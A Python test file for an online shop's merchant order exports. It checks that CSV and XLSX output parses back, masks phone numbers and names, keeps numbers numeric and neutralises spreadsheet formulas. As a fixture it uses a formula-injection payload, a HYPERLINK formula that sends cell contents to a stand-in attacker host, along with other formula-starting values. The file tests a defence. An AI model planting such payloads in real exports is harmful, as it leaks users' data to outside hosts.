"""CSV and XLSX exports: parsed back, masked, formula-safe, numbers kept as numbers."""

from __future__ import annotations

import csv
import io
import os

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from tests.platform.factories import make_merchant, make_product, make_sku, make_user
from tests.platform.merchant_orders.fx import T0, put_order, shopper_with_phone
from tuanbox.merchant_orders.export import HEADER, csv_chunks, file_chunks, xlsx_file
from tuanbox.merchant_orders.listing import OrderFilter, Scope
from tuanbox.merchant_orders.pii import cell_safe, mask_name, mask_phone
from tuanbox.merchant_orders.tabs import Tab
from tuanbox.settings import Settings

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _seed(session: Session, settings: Settings) -> tuple[Scope, list[str]]:
    merchant = make_merchant(session)
    product = make_product(session, merchant)
    product.name = EVIL
    sku = make_sku(session, product, price_cents=1250, stock=100)
    sku.name = "@SUM(1+1)"
    user = shopper_with_phone(session, settings, "+8613800138000")
    ids = [
        put_order(session, merchant, sku=sku, user_id=user, qty=2, status="confirmed").id,
        put_order(session, merchant, sku=sku, user_id=user, status="confirmed").id,
        put_order(session, merchant, sku=sku, user_id=user, status="pending_payment").id,
    ]
    put_order(session, make_merchant(session), status="confirmed")  # not theirs
    return Scope(merchant.id, settings), ids


def test_csv_export_parses_back_masked_and_formula_safe(
    db_session: Session, settings: Settings
) -> None:
    scope, ids = _seed(db_session, settings)
    body = b"".join(csv_chunks(db_session, scope, OrderFilter(tab=Tab.TO_SHIP)))
    assert body.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert list(rows[0]) == HEADER
    assert sorted(r["order_id"] for r in rows) == sorted(ids[:2])
    first = rows[0]
    assert first["product"] == "'" + EVIL and first["sku"] == "'@SUM(1+1)"
    assert first["phone"] == "138****8000" and first["tab"] == "待发货"
    assert first["created_at"] == "2026-12-01 10:00:00"  # Shanghai time
    assert {r["qty"] for r in rows} == {"1", "2"}
    assert {r["unit_total_cents"] for r in rows} == {"1250", "2500"}


def test_csv_reveals_phones_only_when_the_scope_allows(
    db_session: Session, settings: Settings
) -> None:
    scope, _ = _seed(db_session, settings)
    scope.reveal_pii = True
    body = b"".join(csv_chunks(db_session, scope, OrderFilter()))
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert {r["phone"] for r in rows} == {"'+8613800138000"}  # "+" would start a formula


def test_xlsx_export_parses_back(db_session: Session, settings: Settings) -> None:
    scope, ids = _seed(db_session, settings)
    path = xlsx_file(db_session, scope, OrderFilter())
    data = b"".join(file_chunks(path))
    assert not os.path.exists(path)  # removed once streamed
    sheet = load_workbook(io.BytesIO(data), read_only=True)["orders"]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADER
    body = [dict(zip(HEADER, r, strict=True)) for r in rows[1:]]
    assert sorted(r["order_id"] for r in body) == sorted(ids)
    assert all(r["product"] == "'" + EVIL for r in body)
    assert {r["qty"] for r in body} == {1, 2}  # numbers, not text
    assert {r["phone"] for r in body} == {"138****8000"}
    formulas = load_workbook(io.BytesIO(data))["orders"]
    assert all(c.data_type != "f" for row in formulas.iter_rows() for c in row)


def test_masks_and_cell_safety() -> None:
    assert mask_phone("+8613800138000") == "138****8000"
    assert mask_phone("+447700900123") == "447****0123"
    assert mask_phone(None) == mask_name(None) == ""
    assert mask_name("张三丰") == "张**" and mask_name("Li") == "L*" and mask_name("A") == "*"
    for text in ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1"]:
        assert cell_safe(text) == "'" + text
    assert cell_safe(-5) == -5 and cell_safe("plain") == "plain"


def test_big_exports_stream_in_chunks(db_session: Session, settings: Settings) -> None:
    merchant = make_merchant(db_session)
    sku = make_sku(db_session, make_product(db_session, merchant), stock=10_000)
    user = make_user(db_session).id
    for i in range(1500):
        put_order(db_session, merchant, sku=sku, user_id=user, at=T0.replace(second=i % 60))
    chunks = list(csv_chunks(db_session, Scope(merchant.id, settings), OrderFilter()))
    assert len(chunks) > 1
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 1501
